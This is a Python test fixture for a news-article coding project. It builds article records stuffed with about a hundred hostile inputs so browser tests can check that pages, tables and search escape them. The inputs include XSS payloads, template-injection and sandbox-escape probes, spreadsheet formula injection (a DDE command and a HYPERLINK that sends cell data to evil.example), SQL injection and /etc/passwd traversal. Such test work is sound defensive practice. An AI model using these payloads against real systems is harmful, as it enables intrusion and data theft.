"""A hundred texts that mean harm, for whatever shows the words of articles: pages, briefs, tables, search.

Every one that could run a script sets ``window.hacked``, so that a test in a browser can tell whether any did. The list is
the project's own, after the kinds that OWASP's cheat sheets describe.
"""

from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from typing import Any

from bilat.model import Article, Coding, DateBasis, Party, Span, Undertaking, content_id

SCRIPTS = (
    "<script>window.hacked=1</script>",
    "<SCRIPT>window.hacked=1</SCRIPT >",
    "<script/src=data:text/javascript,window.hacked=1></script>",
    "<script\n>window.hacked=1</script\n>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "</title><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "</noscript><script>window.hacked=1</script>",
    "</template><script>window.hacked=1</script>",
    "</svg><script>window.hacked=1</script>",
    "</desc></svg><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script>",
    "]]><script>window.hacked=1</script>",
    "<script type=module>window.hacked=1</script>",
    "<script type=application/json>{</script><script>window.hacked=1</script>",
    "\ufeff<script>window.hacked=1</script>",
    "<!--[if gte IE 4]><script>window.hacked=1</script><![endif]-->",
    "<script>window['hac'+'ked']=1</script>",
)
HANDLERS = (
    "<img src=x onerror=window.hacked=2>",
    "<img/src=x/onerror=window.hacked=2>",
    "<img src=x onerror='window.hacked=2'>",
    '<img src="x" onerror="window.hacked=2">',
    "<svg onload=window.hacked=2>",
    "<svg/onload=window.hacked=2>",
    "<svg><animate onbegin=window.hacked=2 attributeName=x dur=1s>",
    "<svg><set onbegin=window.hacked=2 attributeName=x>",
    "<svg><a xlink:href='javascript:window.hacked=2'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe onload=window.hacked=2></foreignObject></svg>",
    "<body onload=window.hacked=2>",
    "<details open ontoggle=window.hacked=2>",
    "<input autofocus onfocus=window.hacked=2>",
    "<select autofocus onfocus=window.hacked=2>",
    "<video><source onerror=window.hacked=2></video>",
    "<audio src=x onerror=window.hacked=2>",
    "<marquee onstart=window.hacked=2>",
    "<iframe srcdoc='<script>parent.hacked=2</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=2></iframe>",
    "<object data=javascript:window.hacked=2>",
    "<embed src=javascript:window.hacked=2>",
    "<form><button formaction=javascript:window.hacked=2>x</button></form>",
    "<math><mtext></p><img src=x onerror=window.hacked=2></mtext></math>",
    "<p style='animation-name:x' onanimationstart=window.hacked=2>",
    "<link rel=stylesheet href=javascript:window.hacked=2>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hacked=2'>",
    "<base href=//evil.example/>",
    "<x contenteditable onblur=window.hacked=2 tabindex=1 autofocus>",
)
ATTRIBUTES = (
    '"><script>window.hacked=3</script>',
    "'><script>window.hacked=3</script>",
    '" onmouseover=window.hacked=3 x="',
    "' onfocus=window.hacked=3 autofocus x='",
    '" autofocus onfocus="window.hacked=3',
    "` onload=window.hacked=3 `",
    '" style="background:url(//evil.example/a)',
    "javascript:window.hacked=3",
    "JaVaScRiPt:window.hacked=3",
    "java\tscript:window.hacked=3",
    "java\nscript:window.hacked=3",
    " javascript:window.hacked=3",
    "\x01javascript:window.hacked=3",
    "javascript&colon;window.hacked=3",
    "data:text/html,<script>parent.hacked=3</script>",
    "vbscript:msgbox(3)",
    "//evil.example/a",
    "https://evil.example\\@127.0.0.1/",
    "&#60;script&#62;window.hacked=3&#60;/script&#62;",
    "&lt;script&gt;window.hacked=3&lt;/script&gt;",
    "%3Cscript%3Ewindow.hacked=3%3C/script%3E",
    "\\u003cscript\\u003ewindow.hacked=3\\u003c/script\\u003e",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "{{ config.items() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "{0.__class__}",
    "%s%s%n",
)
TABLES = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    'a","b',
    "a;b\tc\nd",
)
QUESTIONS = (
    "'; DROP TABLE articles; --",
    "' OR '1'='1",
    '" OR title:* NEAR(',
    '*) AND ("',
    "../../../../etc/passwd",
    "%00/etc/passwd",
)
SIGNS = (
    "\u202egnp.exe",
    "a\u2028b\u2029c",
    "\x00\x02hit\x03\x1b[31m",
    "Z\u0351\u036b\u0343a\u0350l\u034fg\u0315o",
)
PAYLOADS: tuple[str, ...] = (*SCRIPTS, *HANDLERS, *ATTRIBUTES, *TEMPLATES, *TABLES, *QUESTIONS, *SIGNS)

ACT = (
    "Iran's army attacked Pakistan on Tuesday. Pakistan and Iran signed an agreement on the Iran-Pakistan gas pipeline."
)
"""What makes events of two states and an undertaking, so that the article is shown wherever such things are."""


def articles() -> Iterator[dict[str, Any]]:
    """An article for each of them, with it wherever an article has words: id, title, outlet, address, text."""
    for number, payload in enumerate(PAYLOADS):
        yield {
            "id": f"hostile {number} {payload}",
            "title": payload,
            "date": f"2024-{number % 12 + 1:02d}-{number % 28 + 1:02d}",
            "source": f"{payload} outlet",
            "url": payload if number % 2 else f"https://paper.example/{payload}",
            "text": f"{payload} {ACT} {payload} It said so to {payload} reporters.",
        }


def codings() -> Iterator[Coding]:
    """The same articles with what :data:`ACT` tells, and with the payload for every name in it too.

    Nothing was cleaned: these say what a record may hold at worst. The coder reads one text for all of them.
    """
    from bilat import code

    told = code(ACT, date="2024-01-17")
    for number, raw in enumerate(articles()):
        article = Article(
            id=raw["id"],
            text=raw["text"],
            title=raw["title"],
            outlet=raw["source"],
            date=raw["date"],
            date_basis=DateBasis.GIVEN,
            url=raw["url"],
            origin=raw["title"],
            language="en",
        )
        moved: Coding = _moved(told, raw["text"].index(ACT), raw["id"], PAYLOADS[number])
        yield replace(moved, article=article)


def _moved(value: Any, by: int, article: str, payload: str) -> Any:
    """A value with its spans moved, its ids made this article's, and its names replaced."""
    if isinstance(value, Span):
        return Span(value.start + by, value.end + by, value.text)
    if isinstance(value, tuple):
        return tuple(_moved(one, by, article, payload) for one in value)
    if not is_dataclass(value) or isinstance(value, Article | type):
        return value
    changed = {field.name: _moved(getattr(value, field.name), by, article, payload) for field in fields(value)}
    if "article_id" in changed:
        changed |= {"article_id": article, "id": content_id(changed["id"], article)}
    if isinstance(value, Party | Undertaking):
        changed |= {"name": payload} | ({"role": payload} if isinstance(value, Party) else {})
    return replace(value, **changed)
